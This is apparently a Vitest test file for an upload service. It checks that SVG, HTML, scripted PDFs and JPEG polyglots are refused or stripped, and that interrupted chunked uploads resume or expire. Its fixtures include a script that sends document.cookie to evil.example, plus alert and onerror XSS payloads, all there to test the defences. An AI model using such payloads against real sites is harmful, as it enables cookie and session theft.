import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { errorTexts } from '@appeal/contract/errors.texts.ts'
import { fileRoutes, UPLOAD_CHUNK_BYTES, uploadRoutes } from '@appeal/contract/files/files.routes.ts'
import { sql } from 'drizzle-orm'
import sharp from 'sharp'
import { beforeEach, describe, expect, it } from 'vitest'
import { systemContext } from '../../platform/context.ts'
import { START, useTestApp } from '../../testing/app.ts'
import { makeConsumer } from '../../testing/people.ts'
import { jpeg, noisyJpeg, pdf, pdfStream, png } from './files.fixtures.ts'
import { sweepFiles } from './files.jobs.ts'
import { multipart, uploader } from './files.uploader.fixture.ts'

const test = useTestApp()
const { begin, send, sendChunk, sendWhole, signIn, trial, upload } = uploader(() => test.app)
const someone = async () => signIn((await makeConsumer(test.app)).id)

/** How much of anything is kept: rows of files, uploads and pieces, and stored bytes. */
async function kept() {
  const { rows } = await test.app.platform.db.execute(
    sql`select (select count(*)::int from files) f, (select count(*)::int from uploads) u, (select count(*)::int from upload_chunks) c`,
  )
  const stored = await readdir(join(test.app.platform.config.DATA_DIR, 'files')).catch(() => [])
  return [rows[0]?.f, rows[0]?.u, rows[0]?.c, stored.length]
}
const download = (token: string, id: string, more = '') =>
  test.app.inject({ method: 'GET', url: `${fileRoutes.download.url}?id=${id}${more}`, headers: { token } })

beforeEach(async () => {
  test.app.clock.set(START)
  await test.app.owner.query('truncate uploads, upload_chunks, handed_over, file_links, file_words, files')
})

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const HTML = `<!doctype html><body onload=alert(1)>${SCRIPT}`
const JAVASCRIPT = '3 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj'

describe('hostile files', () => {
  it.each<[string, Buffer, keyof typeof errorTexts]>([
    ['a picture of vectors', Buffer.from(SVG), 'files.type_refused'],
    ['a page', Buffer.from(HTML), 'files.type_refused'],
  ])('%s is refused under any name that is taken', async (_, bytes, reason) => {
    const person = await someone()
    const before = await kept()
    for (const name of ['面单.jpg', '面单.png', '面单.pdf', '面单.mp4', '面单.jpeg']) {
      expect(await trial(person, name, bytes)).toFailWith(reason)
      expect(await sendWhole(person, bytes, name)).toFailWith(reason)
    }
    expect(await kept()).toEqual(before)
  })

  it.each([['面单.svg'], ['面单.html'], ['面单.jpg.svg'], ['面单.xhtml'], ['面单.js']])(
    '%s is refused before a byte is sent',
    async (name) => {
      const person = await someone()
      const answer = await person.call(uploadRoutes.begin, { body: { name, size: 10 } })
      expect(answer).toFailWith('files.type_refused')
    },
  )

  it.each<[string, Buffer]>([
    ['opens with it', pdf([JAVASCRIPT])],
    ['hides it in a stream', pdf([pdfStream('', Buffer.from(JAVASCRIPT))])],
  ])(
    'a PDF with a script that %s is refused in both languages, and nothing of it stays',
    async (_, bytes) => {
      const person = await someone()
      const before = await kept()
      for (const [language, tag] of [
        ['zh', 'zh-CN'],
        ['en', 'en'],
      ] as const) {
        const uploadId = await begin(person, '合同.pdf', bytes.length)
        expect(await sendChunk(person, uploadId, 0, bytes)).toSucceed()
        const answer = await person.call(uploadRoutes.finish, {
          body: { uploadId },
          headers: { 'accept-language': tag },
        })
        expect(answer).toFailWith('files.active_content')
        expect(answer.msg).toBe(errorTexts['files.active_content'][language])
      }
      expect(await kept()).toEqual(before)
    },
  )

  it.each<[string, (picture: Buffer) => Buffer]>([
    ['a page behind it', (picture) => Buffer.concat([picture, Buffer.from(HTML)])],
    ['a document behind it', (picture) => Buffer.concat([picture, pdf([JAVASCRIPT])])],
    ['an archive behind it', (picture) => Buffer.concat([picture, Buffer.from('PK\x03\x04evil.exe')])],
    [
      'a script in its comment',
      (picture) => {
        const text = Buffer.from(`*/=1;alert(1);/*${SCRIPT}`)
        const head = Buffer.from([0xff, 0xfe, (text.length + 2) >> 8, (text.length + 2) & 255])
        return Buffer.concat([picture.subarray(0, 2), head, text, picture.subarray(2)])
      },
    ],
  ])('a JPEG with %s becomes a picture and nothing else', async (_, make) => {
    const person = await someone()
    const polyglot = make(await jpeg())
    expect(polyglot.toString('latin1')).toMatch(/script|evil/i)
    const { id } = await upload(person, '面单.jpg', polyglot)
    for (const more of ['', '&inline=1']) {
      const { headers, rawPayload } = await download(person.token, id, more)
      expect(rawPayload.toString('latin1')).not.toMatch(/script|evil|onload|alert/i)
      expect((await sharp(rawPayload).metadata()).format).toBe('jpeg')
      expect(headers['content-type']).not.toMatch(/html|svg|xml|javascript/)
      expect(headers['x-content-type-options']).toBe('nosniff')
      expect(headers['content-security-policy']).toContain('sandbox')
    }
  })

  it.each([
    ['林👨‍👩‍👧‍👦小满.png', '林👨‍👩‍👧‍👦小满.png'],
    ['صورة الطرد.png', 'صورة الطرد.png'],
    ['面\u200B单\u200B.png', '面单.png'],
    ['"><img src=x onerror=alert(1)>.png', '"><img src=x onerror=alert(1)>.png'],
  ])('the name %s stays the text it is', async (name, shown) => {
    const person = await someone()
    const stored = await upload(person, name, await png())
    expect(stored.name).toBe(shown)
    const { headers } = await download(person.token, stored.id)
    const header = String(headers['content-disposition'])
    expect(decodeURIComponent(header.split('filename=')[1]!)).toBe(shown)
    expect(header).not.toContain('<')
  })
})

describe('an upload cut at 99 %', () => {
  async function cut() {
    const bytes = await noisyJpeg(2_200, 1_500)
    expect(bytes.length).toBeGreaterThan(3 * UPLOAD_CHUNK_BYTES)
    const { id: userId } = await makeConsumer(test.app)
    const person = await signIn(userId)
    const [, , , stored] = await kept()
    const { data } = await person.call(uploadRoutes.begin, {
      body: { name: '开箱.jpg', size: bytes.length, fingerprint: 'one' },
    })
    const almost = Math.floor(bytes.length * 0.99)
    for (let at = 0; at < almost; at += UPLOAD_CHUNK_BYTES)
      await sendChunk(
        person,
        data.uploadId,
        at,
        bytes.subarray(at, Math.min(at + UPLOAD_CHUNK_BYTES, almost)),
      )
    // The last request breaks off in the middle of its piece.
    const url = `${uploadRoutes.chunk.url}?uploadId=${data.uploadId}&offset=${almost}`
    const broken = await send(person, url, multipart(bytes.subarray(almost)).subarray(0, -30))
    expect(broken.code).toBe(415)
    return { userId, person, bytes, almost, stored, uploadId: data.uploadId }
  }
  const resume = async (person: Awaited<ReturnType<typeof signIn>>, size: number) =>
    (await person.call(uploadRoutes.begin, { body: { name: '开箱.jpg', size, fingerprint: 'one' } })).data

  it('is no file, goes on with the missing part alone, and is whole then', async () => {
    const { person, bytes, almost, stored, uploadId } = await cut()
    expect(await person.call(uploadRoutes.finish, { body: { uploadId } })).toFailWith('files.incomplete')
    expect(await kept()).toEqual([0, 1, expect.any(Number), stored])
    expect((await download(person.token, uploadId)).json()).toMatchObject({ code: 404 })
    expect(await resume(person, bytes.length)).toMatchObject({ uploadId, received: almost })
    expect(await sendChunk(person, uploadId, almost, bytes.subarray(almost))).toSucceed()
    const { data } = await person.call(uploadRoutes.finish, { body: { uploadId } })
    const { width, height } = await sharp((await download(person.token, data.id)).rawPayload).metadata()
    expect([width, height]).toEqual([2_200, 1_500])
  })

  it('ends a day after its last piece: nothing of it stays, and it begins anew', async () => {
    const { userId, bytes, almost, stored, uploadId } = await cut()
    test.app.clock.advance(24 * 3_600_000 + 1)
    const person = await signIn(userId)
    expect(await sendChunk(person, uploadId, almost, bytes.subarray(almost))).toFailWith('files.upload_gone')
    const fresh = await resume(person, bytes.length)
    expect(fresh.received).toBe(0)
    expect(fresh.uploadId).not.toBe(uploadId)
    await sweepFiles(systemContext(test.app.platform, 'test'))
    expect(await kept()).toEqual([0, 1, 0, stored])
  })
})
